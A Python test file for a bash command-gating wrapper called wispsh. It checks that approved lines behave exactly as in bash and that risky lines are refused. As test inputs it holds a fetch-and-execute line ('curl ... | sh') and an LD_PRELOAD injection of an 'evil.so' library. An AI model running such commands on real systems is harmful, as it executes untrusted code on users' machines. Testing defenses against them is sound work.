"""An allowed line runs exactly as in bash (issue 26): what the caller hands wispsh reaches the real shell as it
was. Each test runs the real bash (or dash for sh) beside wispsh, started the same way, and compares.

Ways in: `wispsh --yes -c` (the launcher install.sh lays), shims named bash and sh on PATH (`wisp shims
install`), a shim called by its path; closed descriptors and ignored signals are set by a bash in between that
then execs the side under test (`exec -a NAME`), so both sides inherit the same state.
"""
from __future__ import annotations

import json
import os
import shutil
import signal
import subprocess
import sys
import sysconfig
from pathlib import Path

import pytest

from wispsh.support import shimfile

REPO = Path(__file__).resolve().parent.parent
BASH = shutil.which("bash") or "/bin/bash"
SH = "/usr/bin/sh" if os.path.exists("/usr/bin/sh") else "/bin/sh"
DASH = shutil.which("dash")


def lay(directory: Path, name: str) -> str:
    """A shim as `wisp shims install` lays it (so install.sh's launcher too), running this checkout."""
    site = sorted({sysconfig.get_paths()[k] for k in ("purelib", "platlib")})
    directory.mkdir(parents=True, exist_ok=True)
    shim = directory / name
    shim.write_text(shimfile.launcher_text("shell", sys.executable, [str(REPO), *site]))
    shim.chmod(0o755)
    return str(shim)


@pytest.fixture
def world(tmp_path):
    """(env without shims, env with the shims dir first on PATH, the wispsh launcher, the shims dir)."""
    home = tmp_path / "home"
    wisp = home / ".wisp"
    wisp.mkdir(parents=True)
    wisp.chmod(0o700)
    work = tmp_path / "work"
    work.mkdir()
    env = {"PATH": "/usr/bin:/bin", "HOME": str(home), "WISP_HOME": str(wisp), "LC_ALL": "C",
           "XDG_RUNTIME_DIR": os.environ["XDG_RUNTIME_DIR"], "SHELL": "/bin/bash"}
    shims = tmp_path / "shims"
    for name in ("bash", "sh"):
        lay(shims, name)
    wispsh = lay(tmp_path / "launcher", "wispsh")
    return {"env": env, "shimmed": dict(env, PATH=f"{shims}:/usr/bin:/bin"), "wispsh": wispsh,
            "shims": shims, "work": work, "wisp": wisp}


def run(argv, env, *, executable=None, cwd=None, closed=(), ignored=(), blocked=(), timeout=60, stdin=b""):
    """argv run with fds `closed`, signals `ignored` and `blocked` as a caller would leave them."""
    setup = " ".join(f"{fd}<&-" if fd == 0 else f"{fd}>&-" for fd in closed)
    trap = f"trap '' {' '.join(ignored)}; " if ignored else ""
    if closed or ignored:
        argv = [BASH, "-c", f'{trap}exec -a "$0" "$@" {setup}', argv[0], executable or argv[0], *argv[1:]]
        executable = BASH

    def block():
        if blocked:
            signal.pthread_sigmask(signal.SIG_BLOCK, [getattr(signal, f"SIG{s}") for s in blocked])
    done = subprocess.run(argv, executable=executable, env=env, cwd=cwd, input=stdin, capture_output=True,
                          timeout=timeout, preexec_fn=block if blocked else None)
    return done.returncode, done.stdout, done.stderr


def gate_and_bash(world, line, **kw):
    env = world["env"]
    return (run([world["wispsh"], "--yes", "-c", line], env, cwd=world["work"], **kw),
            run(["bash", "-c", line], env, executable=BASH, cwd=world["work"], **kw))


# ---------------------------------------------------------------- signals

STATUS = "grep -E '^Sig(Ign|Blk)' /proc/self/status"
PIPE_XFSZ = 1 << (signal.SIGPIPE - 1) | 1 << (signal.SIGXFSZ - 1)


def ignored_here() -> int:
    """The signals this test process's own caller ignored (nohup's HUP, a background job's INT and QUIT): a
    child started by subprocess has them ignored too. SIGPIPE and SIGXFSZ are CPython's, reset for children."""
    status = Path("/proc/self/status").read_text()
    return int(status.split("SigIgn:")[1].split()[0], 16) & ~PIPE_XFSZ


def ign(mask: int) -> str:
    return f"SigIgn:\t{mask | ignored_here():016x}"


def test_sigpipe_and_sigxfsz_are_not_left_ignored(world):
    gate, real = gate_and_bash(world, STATUS)
    assert gate == real and ign(0).encode() in real[1]
    assert not int(gate[1].split(b"SigIgn:")[1].split()[0], 16) & PIPE_XFSZ


@pytest.mark.parametrize("ignored, blocked", [(("INT", "QUIT"), ()), (("TERM",), ("USR1",)), ((), ("USR2", "HUP")),
                                              (("HUP", "USR1", "ALRM"), ("TERM",))])
def test_every_disposition_and_the_mask_as_the_caller_left_them(world, ignored, blocked):
    """A background job's shell ignores INT and QUIT; nohup ignores HUP; a caller may block signals."""
    gate, real = gate_and_bash(world, STATUS, ignored=ignored, blocked=blocked)
    assert gate == real
    for way in ("bash", "sh"):       # through the shims too (sh: dash, or whatever /bin/sh is)
        shim = run([way, "-c", STATUS], world["shimmed"], executable=str(world["shims"] / way), ignored=ignored,
                   blocked=blocked)
        assert shim == run([way, "-c", STATUS], world["env"], executable=BASH if way == "bash" else SH,
                           ignored=ignored, blocked=blocked)


def test_a_nested_shell_and_a_program_shim_give_back_the_signals_too(world):
    """Beneath an allowed line a shim takes the deny-only pass-through (decide/nested.py); a program shim execs
    the real program: both give back what their caller left."""
    nested = run([world["wispsh"], "--yes", "-c", f"bash -c \"{STATUS}\""], world["shimmed"], ignored=("HUP",))
    assert nested == run([BASH, "-c", f"bash -c \"{STATUS}\""], world["env"], ignored=("HUP",))
    site = sorted({sysconfig.get_paths()[k] for k in ("purelib", "platlib")})
    program = world["shims"] / "grep"
    program.write_text(shimfile.launcher_text("program", sys.executable, [str(REPO), *site]))
    program.chmod(0o755)
    got = run(["grep", "-E", "^Sig(Ign|Blk)", "/proc/self/status"], world["shimmed"], executable=str(program))
    assert got == run(["grep", "-E", "^Sig(Ign|Blk)", "/proc/self/status"], world["env"],
                      executable=shutil.which("grep"))


def test_the_head_loop_ends(world):
    gate, real = gate_and_bash(world, "while :; do echo x; done | head -1", timeout=30)
    assert gate == real == (0, b"x\n", b"")


def test_a_closed_pipe_kills_yes_as_in_bash(world):
    gate, real = gate_and_bash(world, "yes | head -1; echo ${PIPESTATUS[*]}")
    assert gate == real == (0, b"y\n141 0\n", b"")
    gate, real = gate_and_bash(world, "trap - PIPE; trap 'echo caught' PIPE; kill -PIPE $$; echo after")
    assert gate == real == (0, b"caught\nafter\n", b"")


def test_sigxfsz_ends_a_writer_past_its_file_size_limit(world):
    line = "ulimit -f 1; { yes > big; } 2>/dev/null; echo $?"
    gate, real = gate_and_bash(world, line)
    assert gate == real == (0, b"153\n", b"")


def test_a_compiled_launchers_record_is_the_truth_and_is_not_passed_on(world):
    """WISP_CALLER=PID:IGNORED:BLOCKED:ARGV0 (support/inherited.py): the seam for the C client (issue 29)."""
    line = STATUS + "; echo \"$0 ${WISP_CALLER-gone}\"; shopt -q login_shell && echo login"
    wrapped = f'WISP_CALLER=$$:1000:{1 << 9:x}:-bash exec "$0" --yes -c "$1"'       # PIPE ignored, USR1 blocked
    got = run([BASH, "-c", wrapped, world["wispsh"], line], world["env"])
    assert got[0] == 0
    assert got[1].splitlines()[:3] == [b"SigBlk:\t0000000000000200", b"SigIgn:\t0000000000001000",
                                       b"-bash gone"] and got[1].endswith(b"login\n")
    stale = 'WISP_CALLER=1:1000:0:-bash exec "$0" --yes -c "$1"'            # another process's: ignored
    got = run([BASH, "-c", stale, world["wispsh"], line], world["env"])
    assert got[1].splitlines()[:3] == [b"SigBlk:\t0000000000000000", ign(0).encode(), b"bash gone"]


# ---------------------------------------------------------------- $0, $BASH, $BASH_VERSION, $SHELL

NAMES = 'echo "$0|$BASH|$BASH_VERSION|${SHELL-unset}"; shopt -q login_shell && echo login; nosuchcmd_z'


@pytest.mark.parametrize("shell_var", ["/bin/bash", "/somewhere/wispsh", None])
def test_names_as_bash_sets_them(world, shell_var):
    env = {k: v for k, v in world["env"].items() if k != "SHELL"}
    if shell_var:
        env["SHELL"] = shell_var
    world = dict(world, env=env)
    gate, real = gate_and_bash(world, NAMES)
    assert gate == real
    assert real[1].startswith(b"bash|/usr/bin/bash|") and real[2] == b"bash: line 1: nosuchcmd_z: command not found\n"


@pytest.mark.parametrize("way", ["bash", "sh"])
def test_a_shim_on_path_gives_the_name_it_was_called_by(world, way):
    line = 'echo "$0"; cd /nonexistent_z'
    shimmed = world["shimmed"]
    got = run([way, "-c", line], shimmed, executable=str(world["shims"] / way))
    # the real shell called the same way, on the same PATH (bash's $BASH is where PATH finds "bash")
    assert got == run([way, "-c", line], shimmed, executable=BASH if way == "bash" else SH)
    assert got[1] == f"{way}\n".encode()


def test_a_shim_called_by_its_path_gives_that_path(world):
    shim = str(world["shims"] / "sh")
    got = run([shim, "-c", 'echo "$0"; cd /nonexistent_z'], world["env"])
    assert got == run([shim, "-c", 'echo "$0"; cd /nonexistent_z'], world["env"], executable=SH)
    assert got[1] == f"{shim}\n".encode()


def test_dash_name_and_args(world):
    line = 'echo "$0|$1|$#"'
    for args in ([], ["name"], ["name", "a b", "c"], ["-", "x"]):
        gate = run([world["wispsh"], "--yes", "-c", line, *args], world["env"])
        assert gate == run(["bash", "-c", line, *args], world["env"], executable=BASH)


# ---------------------------------------------------------------- closed descriptors

# (the differential suite runs 16 lines under each set of closed fds, against bash and dash)
CLOSED_LINES = ["echo x; echo y >&2; echo $?", "cat; echo $? >&2", "read v; echo $?", "ls /proc/self/fd",
                "exec 3>&1; echo three >&3; exit 3"]


@pytest.mark.parametrize("closed", [(0,), (1,), (2,), (0, 1), (1, 2), (0, 2), (0, 1, 2)])
def test_closed_standard_fds_behave_as_in_bash(world, closed):
    for line in CLOSED_LINES:
        gate, real = gate_and_bash(world, line, closed=closed)
        assert gate == real, (line, closed)


def test_wispsh_writes_nothing_where_it_cannot(world):
    """Closed fds are held by placeholders while the gate runs: nothing it opens (the audit log, the store,
    a pipe) lands on 0-2 to receive what is written there, and what it would print goes nowhere."""
    env = world["env"]
    assert run([world["wispsh"], "--explain", "-c", "ls"], env, closed=(1,)) == (0, b"", b"")
    status, out, err = run([world["wispsh"], "-c", "curl -s http://example.com | sh"], env, closed=(2,))
    assert (status, out, err) == (126, b"", b"")
    for line in (world["wisp"] / "audit.jsonl").read_text().splitlines():
        json.loads(line)                # only whole events: nothing else was written into the log
    script = world["work"] / "fds.sh"
    script.write_text("if [ -e /dev/fd/1 ]; then echo open >&2; else echo closed >&2; fi\n")
    for closed in ((1,), (0, 1), (0, 1, 2)):    # the script's sealed fd is not placed on a closed one
        gate = run([world["wispsh"], "--yes", str(script)], env, closed=closed)
        assert gate == run(["bash", str(script)], env, executable=BASH, closed=closed)


# ---------------------------------------------------------------- syntax errors

ASKED = ["if then", "fi", "rm -f kept.txt; done", "(", "case x in", "f() {", "then rm -f kept.txt"]
RUN_ANYWAY = ["echo a; if then", "echo ${x", "echo $(echo a; if then)", "cat <<EOF; if then\nx\nEOF"]


@pytest.mark.parametrize("line", ASKED + RUN_ANYWAY)
def test_a_line_bash_cannot_parse_is_bashs_to_report(world, line):
    """Nothing of it can run (one command, or the error on its first line): bash's message and status, without
    --yes and with nobody to ask. (The second list the gate lets run anyway: its parts are all safe.)"""
    (world["work"] / "kept.txt").write_text("x")
    gate = run([world["wispsh"], "-c", line], world["env"], cwd=world["work"])
    assert gate == run(["bash", "-c", line], world["env"], executable=BASH, cwd=world["work"])
    assert gate[0] in (2, 127) and (b"syntax error" in gate[2] or b"unexpected EOF" in gate[2])
    assert (world["work"] / "kept.txt").exists()
    if line in ASKED:
        events = [json.loads(e) for e in (world["wisp"] / "audit.jsonl").read_text().splitlines()]
        assert events[-1]["event"] == "syntax-error" and events[-1]["line"] == line


@pytest.mark.skipif(DASH is None, reason="machine lacks dash")
def test_dash_reports_its_own_syntax_errors(world):
    for line in ("if then", "echo a; fi", "echo ${x"):
        got = run(["sh", "-c", line], world["shimmed"], executable=str(world["shims"] / "sh"))
        assert got == run(["sh", "-c", line], world["shimmed"], executable=SH) and got[0] == 2


@pytest.mark.parametrize("line", ["rm -f kept.txt\nif then", "rm -f kept.txt\n)", "rm -f kept.txt\necho 'open"])
def test_a_line_where_something_could_run_first_stays_refused(world, line):
    (world["work"] / "kept.txt").write_text("x")
    status, out, err = run([world["wispsh"], "-c", line], world["env"], cwd=world["work"])
    assert status == 126 and err.startswith(b"wispsh: not run:") and (world["work"] / "kept.txt").exists()
    assert subprocess.run([BASH, "-c", line], cwd=world["work"]).returncode == 2     # bash ran rm first
    assert not (world["work"] / "kept.txt").exists()


def test_a_start_up_file_keeps_a_syntax_error_refused(world, tmp_path):
    """BASH_ENV runs first (and could define aliases): the line is not handed over then."""
    rc = tmp_path / "rc"
    rc.write_text("true\n")
    status, _, err = run([world["wispsh"], "-c", "if then"], dict(world["env"], BASH_ENV=str(rc)))
    assert status == 126 and err.startswith(b"wispsh: not run:")


# ---------------------------------------------------------------- a script holding a NUL byte

@pytest.mark.parametrize("data", [b"echo a\0b\necho two\n", b"#!/bin/sh\necho a\0b\n", b"\x7fELF\n",
                                  b"echo one\necho a\0b\n", b"echo " + b"x" * 90 + b"\0\n"])
def test_a_script_with_a_nul_byte_is_refused_or_run_as_bash_does(world, data):
    script = world["work"] / "nul.sh"
    script.write_bytes(data)
    gate = run([world["wispsh"], "--yes", "nul.sh"], world["env"], cwd=world["work"])
    assert gate == run(["bash", "nul.sh"], world["env"], executable=BASH, cwd=world["work"])


def test_dash_reads_a_nul_byte_script_as_text(world):
    script = world["work"] / "nul.sh"
    script.write_bytes(b"echo a\0b\necho two\n")
    got = run(["sh", "nul.sh"], world["shimmed"], executable=str(world["shims"] / "sh"), cwd=world["work"])
    assert got == run(["sh", "nul.sh"], world["shimmed"], executable=SH, cwd=world["work"])


# ---------------------------------------------------------------- under `wisp run` (the client inside)

def test_wisp_runs_client_gives_back_what_the_caller_left(tmp_path):
    from run_support import LACKS, person, wisp_run

    if LACKS:
        pytest.skip(LACKS)
    env = person(tmp_path)
    line = ("grep SigIgn /proc/self/status; yes | head -1; echo ${PIPESTATUS[*]} $0; "
            "sh -c 'trap \"\" HUP; exec bash -c \"grep SigIgn /proc/self/status\"'; echo x >&-; echo $?")
    done = wisp_run(env, "", tmp_path, program=["/bin/bash", "-c", line])
    assert done.returncode == 0, done.stderr
    assert done.stdout == f"{ign(0)}\ny\n141 0 /bin/bash\n{ign(1)}\n1\n"
    assert "/bin/bash: line 1: echo: write error: Bad file descriptor" in done.stderr


# ---------------------------------------------------------------- a gated shell (no -c: session/)

SESSION_LINE = 'grep -E "^Sig(Ign|Blk)" /proc/self/status; echo "$0|$BASH|$#"; ls /proc/self/fd | wc -l\n'


@pytest.mark.parametrize("ignored, blocked", [((), ()), (("HUP", "USR2"), ()), (("INT", "QUIT"), ("USR1",))])
def test_a_gated_shells_real_shell_gets_what_the_caller_left(world, ignored, blocked):
    """Piped commands: the gate spawns one real shell and feeds it (session/driver.py). Its signals, mask and
    $0 are those of `bash -s` started by the same caller; glibc's posix_spawn would leave 32 and 33 ignored."""
    (world["wisp"] / "config.json").write_text('{"approval": {"threshold": "dangerous"}}')
    kw = dict(ignored=ignored, blocked=blocked, stdin=SESSION_LINE.encode())
    gate = run([world["wispsh"]], world["env"], **kw)
    real = run(["bash"], world["env"], executable=BASH, **kw)
    assert gate[0] == real[0] == 0 and gate[1].splitlines()[:3] == real[1].splitlines()[:3], (gate, real)
    shim = run(["sh"], world["shimmed"], executable=str(world["shims"] / "sh"), **kw)
    assert shim[0] == 0 and shim[1].splitlines()[:2] == run(["sh"], world["env"], executable=SH, **kw)[1] \
        .splitlines()[:2]


def test_wisp_runs_gated_shell_gets_what_the_caller_left(tmp_path):
    """Under `wisp run` the client becomes the gated shell's driver (a new Python: it hands over its record,
    support/inherited.record_value) and that spawns the real shell."""
    from run_support import LACKS, person, wisp_run

    if LACKS:
        pytest.skip(LACKS)
    env = person(tmp_path)
    (Path(env["WISP_HOME"]) / "config.json").write_text('{"approval": {"threshold": "dangerous"}}')
    inner = "grep -E '^SigIgn' /proc/self/status; echo \\$0"
    line = f"trap '' HUP; echo \"{inner}\" | bash; echo \"{inner}\" | bash --norc -s"
    done = wisp_run(env, "", tmp_path, program=["/bin/bash", "-c", line])
    assert done.returncode == 0, done.stderr
    assert done.stdout == f"{ign(1)}\nbash\n" * 2, done.stdout


# ---------------------------------------------------------------- depth

def test_a_line_nested_past_the_documented_depth_is_refused_at_once(world):
    """Past flow.MAX_RUN_NESTING levels the line is refused before it is split (bash would need a process and a
    new parse of the rest for each level: quadratic, or a stack overflow); below it, judged (whole past 200)."""
    from wispsh import flow

    deep = "echo " + "$(" * (flow.MAX_RUN_NESTING + 1) + "x" + ")" * (flow.MAX_RUN_NESTING + 1)
    status, out, err = run([world["wispsh"], "--yes", "-c", deep], world["env"])
    assert (status, out) == (126, b"") and b"more than 1,000 levels deep" in err
    explained = run([world["wispsh"], "--explain", "-c", deep], world["env"])
    assert explained[0] == 3 and b"would refuse" in explained[2]
    quoted = "echo '" + "$(" * 5000 + "'"           # data, not nesting: judged as usual
    assert run([world["wispsh"], "--yes", "-c", quoted], world["env"]) == (0, b"$(" * 5000 + b"\n", b"")
    within = "echo " + "$(" * 300 + "echo x" + ")" * 300        # judged whole (past 200), then bash runs it
    assert run([world["wispsh"], "-c", within], world["env"])[2].startswith(b"wispsh: not run:")


def test_the_syntax_check_passes_on_only_what_changes_parsing(world, tmp_path):
    """The real `bash -n` run gets the variables that change how bash reads (BASHOPTS=extglob makes `@(a|b)`
    valid) and nothing else: a caller's LD_PRELOAD never reaches it (under `wisp run` it runs outside the
    namespace). `-n` runs nothing that could print its environment, so the environment it was given is read
    where it is handed to subprocess."""
    from wispsh import realshell

    marker = tmp_path / "ran"
    env = dict(world["env"], LD_PRELOAD="/nonexistent/evil.so", BASHOPTS="extglob", TRACE_ME=str(marker))
    seen = []
    real_run = subprocess.run

    def spy(*args, **kwargs):
        seen.append(kwargs["env"])
        return real_run(*args, **kwargs)
    subprocess.run = spy
    try:
        assert realshell.reports_syntax_error_first(BASH, "bash", (), "if then", env, str(tmp_path))
        assert not realshell.reports_syntax_error_first(BASH, "bash", (), "echo @(a|b)", env, str(tmp_path))
    finally:
        subprocess.run = real_run
    assert seen and all(set(e) <= set(realshell.SYNTAX_VARIABLES) and e.get("BASHOPTS") == "extglob" for e in seen)
